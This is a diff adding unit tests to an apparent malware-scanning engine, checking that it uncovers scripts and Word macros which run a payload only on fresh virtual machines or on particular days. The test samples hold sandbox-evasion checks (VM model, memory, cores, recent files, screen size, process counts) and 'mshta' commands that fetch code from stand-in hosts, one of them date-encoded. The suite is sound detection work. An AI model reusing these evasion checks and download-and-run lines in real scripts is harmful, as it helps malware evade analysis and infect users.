@@ -1,5 +1,9 @@
 /* Runs on other machines: only where the outcome hangs on them, only what is new, and under the budget of the whole. */
 #include "../test.h"
+
+#include <stdio.h>
+
+#include "base/attr.h"
 #include "make/scanned.h"
 #include "model/effects.h"
 #include "model/evidence.h"
@@ -8,6 +12,16 @@
 #include "model/report.h"
 
 static sk_report *scan_text(const char *text, const char *name) { return make_scanned(sk_bytes_str(text), name, NULL); }
+
+static sk_report *scan_macro(const char *text)
+{
+    sk_engine *engine;
+    sk_report *r;
+    assert_int_equal(sk_engine_new(NULL, &engine, NULL), SK_OK);
+    assert_int_equal(sk_scan(engine, sk_bytes_str(text), &(sk_scan_options){.kind = "macro.vba"}, &r, NULL), SK_OK);
+    sk_engine_free(engine);
+    return r;
+}
 
 static unsigned count_runs(const sk_report *r, const char *holds)
 {
@@ -24,6 +38,15 @@ static bool has_fact(const sk_report *r, unsigned key, const char *value)
     size_t from = 0;
     for (const sk_fact *f; (f = sk_report_find_fact(r, (uint16_t)key, SK_NO_ARTIFACT, &from));)
         if (sk_is(f->value, value)) return true;
+    return false;
+}
+
+static bool has_probe(const sk_report *r)
+{
+    size_t count;
+    const sk_effect *e = sk_report_effects(r, &count);
+    for (size_t i = 0; i < count; i++)
+        if (e[i].op == SK_OP_PROBE) return true;
     return false;
 }
 
@@ -99,11 +122,108 @@ static void endless_runs_share_one_budget(void **state)
     sk_report_free(r);
 }
 
+/* What every language may ask of the machine: on that of an office nothing is done, on a new virtual machine it is. */
+static void a_bare_machine_opens_the_gate(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *name, *text;
+    } asks[] = {
+        {"wmi.vbs", "For Each s In GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_ComputerSystem\")\r\n"
+                    "If InStr(s.Model, \"VirtualBox\") Then CreateObject(\"WScript.Shell\").Run \"mshta http://bare.example/a\"\r\nNext\r\n"},
+        {"memory.vbs", "n = 0\r\nFor Each s In GetObject(\"winmgmts:\").InstancesOf(\"Win32_PhysicalMemory\")\r\nn = n + s.Capacity / 1073741824\r\nNext\r\n"
+                       "If n < 4 Then CreateObject(\"WScript.Shell\").Run \"mshta http://bare.example/a\"\r\n"},
+        {"cores.js", "var e = new Enumerator(GetObject('winmgmts:').ExecQuery('Select NumberOfCores from Win32_Processor'));\n"
+                     "if (e.item().NumberOfCores < 2) new ActiveXObject('WScript.Shell').Run('mshta http://bare.example/a');\n"},
+        {"recent.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nSet f = CreateObject(\"Scripting.FileSystemObject\").GetFolder(sh.SpecialFolders(\"Recent\"))\r\n"
+                       "If f.Files.Count < 3 Then sh.Run \"mshta http://bare.example/a\"\r\n"},
+        {"processes.vbs", "If GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_Process\").Count < 40 Then "
+                          "CreateObject(\"WScript.Shell\").Run \"mshta http://bare.example/a\"\r\n"},
+        {"screen.hta", "<html><script language='JScript'>if (screen.width < 1000) new ActiveXObject('WScript.Shell').Run('mshta http://bare.example/a');</script></html>"},
+        {"screen.ps1", "Add-Type -AssemblyName System.Windows.Forms\nif ([System.Windows.Forms.Screen]::PrimaryScreen.Bounds.Width -lt 1000) { Start-Process mshta http://bare.example/a }\n"},
+        {"model.ps1", "if ((Get-WmiObject Win32_ComputerSystem).Manufacturer -match 'innotek') { Start-Process mshta http://bare.example/a }\n"},
+        {"many.ps1", "if (@(Get-Process).Count -lt 40) { Start-Process mshta http://bare.example/a }\n"},
+    };
+    for (size_t i = 0; i < SK_COUNT(asks); i++) {
+        sk_report *r = scan_text(asks[i].text, asks[i].name);
+        if (count_runs(r, "mshta http://bare.example/a") != 1) fail_msg("%s: %u runs", asks[i].name, count_runs(r, "mshta http://bare.example/a"));
+        if (!has_fact(r, SK_FACT_EMULATE_MACHINE, "a new virtual machine: small screen, no recent files, one core")) fail_msg("%s: no fact", asks[i].name);
+        assert_true(sk_report_has_evidence(r, SK_EV_EFFECT_ENVIRONMENT, 0));
+        assert_true(has_probe(r));
+        sk_report_free(r);
+    }
+}
+
+/* And the usual check for a test bench lets it go on at once. */
+static void an_office_passes_the_checks(void **state)
+{
+    (void)state;
+    sk_report *r = scan_text("Set w = GetObject(\"winmgmts:\")\r\nFor Each s In w.ExecQuery(\"SELECT * FROM Win32_ComputerSystem\")\r\n"
+                             "If InStr(LCase(s.Model & s.Manufacturer), \"virtual\") > 0 Or s.TotalPhysicalMemory / 1048576 < 3000 Then WScript.Quit\r\nNext\r\n"
+                             "For Each p In w.ExecQuery(\"SELECT * FROM Win32_Process\")\r\nIf InStr(LCase(p.Name), \"wireshark\") Then WScript.Quit\r\nNext\r\n"
+                             "If w.ExecQuery(\"SELECT * FROM Win32_BIOS WHERE Version LIKE '%VBOX%'\").Count Then WScript.Quit\r\n"
+                             "CreateObject(\"WScript.Shell\").Run \"mshta http://office.example/a\"\r\n",
+                             "a.vbs");
+    assert_int_equal(count_runs(r, "mshta http://office.example/a"), 1);
+    assert_false(has_fact(r, SK_FACT_EMULATE_MACHINE, "a new virtual machine: small screen, no recent files, one core"));
+    sk_report_free(r);
+}
+
+/* The same asked by a macro of Word. */
+static void a_macro_asks_the_machine(void **state)
+{
+    (void)state;
+    static const char *const conditions[] = {"System.HorizontalResolution < 1000", "Application.System.VerticalResolution < 700", "Application.UsableWidth < 700",
+                                             "Application.UsableHeight < 400", "Application.RecentFiles.Count < 3", "RecentFiles.Count = 0", "GetSystemMetrics(0) < 1000",
+                                             "Dir(Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Recent\\*.lnk\") = \"\"", "CInt(Environ(\"NUMBER_OF_PROCESSORS\")) < 2"};
+    for (size_t i = 0; i < SK_COUNT(conditions); i++) {
+        char text[600];
+        snprintf(text, sizeof text, "Private Declare Function GetSystemMetrics Lib \"user32\" (ByVal n As Long) As Long\r\nSub AutoOpen()\r\n"
+                                    "If %s Then Shell \"mshta http://bare.example/a\" Else Shell \"notepad.exe c:\\office.txt\"\r\nEnd Sub\r\n", conditions[i]);
+        sk_report *r = scan_macro(text);
+        if (count_runs(r, "mshta http://bare.example/a") != 1) fail_msg("%s", conditions[i]);
+        assert_int_equal(count_runs(r, "notepad.exe c:\\office.txt"), 1);
+        assert_true(has_probe(r) || i == 7);
+        sk_report_free(r);
+    }
+}
+
+/* Text whose key is made of the day, in the ways that VBA has for it. */
+static void days_are_keys_in_macros(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *key;
+        int is; /* on the day, after Tuesday 2021-01-26, that it is meant for */
+    } keys[] = {{"Day(Date)", 9},
+                {"Weekday(Date, vbMonday)", 5},
+                {"CInt(Format(Date, \"d\"))", 14},
+                {"CInt(Format$(Now, \"w\"))", 1},
+                {"Month(Date)", 7},
+                {"CInt(Format(Date, \"m\"))", 11},
+                {"DatePart(\"d\", Now)", 20},
+                {"Asc(Format(Date, \"dddd\")) - 64", 6},
+                {"Len(WeekdayName(Weekday(Date)))", 8},
+                {"Asc(MonthName(Month(Date))) - 64", 15}};
+    static const char plain[] = "mshta http://day.example/";
+    for (size_t i = 0; i < SK_COUNT(keys); i++) {
+        char text[1200], *p = text;
+        p += sprintf(p, "Sub AutoOpen()\r\nDim s, c, k\r\nk = %s\r\nFor Each c In Array(", keys[i].key);
+        for (size_t n = 0; plain[n]; n++) p += sprintf(p, "%s%d", n ? ", " : "", plain[n] + 3 * keys[i].is);
+        sprintf(p, ")\r\ns = s & ChrW(c - 3 * k)\r\nNext\r\nShell s\r\nEnd Sub\r\n");
+        sk_report *r = scan_macro(text);
+        if (count_runs(r, plain) != 1) fail_msg("%s", keys[i].key);
+        sk_report_free(r);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(a_country_opens_the_gate),      cmocka_unit_test(a_machine_at_home_opens_the_gate),
         cmocka_unit_test(the_day_is_a_key),              cmocka_unit_test(the_same_elsewhere_is_no_news),
+        cmocka_unit_test(a_bare_machine_opens_the_gate), cmocka_unit_test(an_office_passes_the_checks),
+        cmocka_unit_test(a_macro_asks_the_machine),      cmocka_unit_test(days_are_keys_in_macros),
         cmocka_unit_test(what_an_analyst_sets_is_not_varied), cmocka_unit_test(endless_runs_share_one_budget),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
